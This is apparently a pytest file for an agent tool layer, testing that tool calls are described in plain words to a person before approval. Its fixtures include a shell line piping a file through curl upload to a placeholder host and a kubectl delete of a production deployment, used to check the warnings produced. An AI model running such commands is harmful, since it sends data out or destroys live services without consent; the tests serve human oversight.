"""A person is told what a call will do before it is allowed."""

from __future__ import annotations

from typing import Any

import pytest

from aof_nb.call_description import described
from aof_nb.ports import Effect, ToolSpec


def spec(name: str, source: str, description: str = "", effect: Effect = Effect.WRITE) -> ToolSpec:
    return ToolSpec(
        name=name, description=description, input_schema={}, source=source, effect=effect
    )


SHELL = spec("shell", "built-in")
FILES = spec("write_file", "function aof_nb.tools.files.file_tools.<locals>.write_file")
SAID = [
    (
        SHELL,
        {"argv": ["kubectl", "--context", "prod", "delete", "deploy/web", "-n", "shop"]},
        [
            "Runs on this machine: kubectl --context prod delete deploy/web -n shop",
            "It deletes deploy/web, in context prod, namespace shop.",
        ],
    ),
    (
        SHELL,
        {"argv": "kubectl scale --replicas=0 deploy/web --namespace=shop"},
        [
            "Runs on this machine: kubectl scale --replicas=0 deploy/web --namespace=shop",
            (
                "It changes the number of copies of deploy/web, in the current context, "
                "namespace shop."
            ),
        ],
    ),
    (SHELL, {"argv": "kubectl get pods"}, ["Runs on this machine: kubectl get pods"]),
    (
        SHELL,
        {"command": "cat x | curl -T - https://a.example"},
        [
            "Runs on this machine, with a shell: cat x | curl -T - https://a.example",
            "Data leaves this machine, to a.example.",
        ],
    ),
    (FILES, {"path": "a.yaml", "content": "a\nb\n"}, ["Writes 2 lines to a.yaml"]),
    (
        spec("http", "built-in"),
        {"url": "https://a.example/x", "method": "post"},
        ["Sends POST to https://a.example/x", "Data leaves this machine, to a.example."],
    ),
    (
        spec("lab__restart", "mcp:lab", "Restarts a service.\n\nMore."),
        {"service": "web"},
        ["The MCP server lab says of it: Restarts a service."],
    ),
    (spec("lab__restart", "mcp:lab"), {}, ["It is a tool of the MCP server lab."]),
    (spec("restart", "function x.restart", "Restarts it."), {}, ["Restarts it."]),
    (spec("restart", "function x.restart"), {}, []),
]


@pytest.mark.parametrize(("tool", "arguments", "said"), SAID)
def test_it_is_said_in_plain_words(
    tool: ToolSpec, arguments: dict[str, Any], said: list[str]
) -> None:
    assert described(tool, arguments) == [*said, "It changes something."]


def test_what_may_destroy_is_said_so() -> None:
    drop = spec("drop", "function x.drop", effect=Effect.DESTRUCTIVE)
    assert described(drop, {}) == ["It may destroy something that cannot be brought back."]


def test_lines_are_bounded_and_whole() -> None:
    lines = described(SHELL, {"argv": ["echo", "a\nb" * 5_000]})
    assert all(len(line) < 600 and "\n" not in line for line in lines)
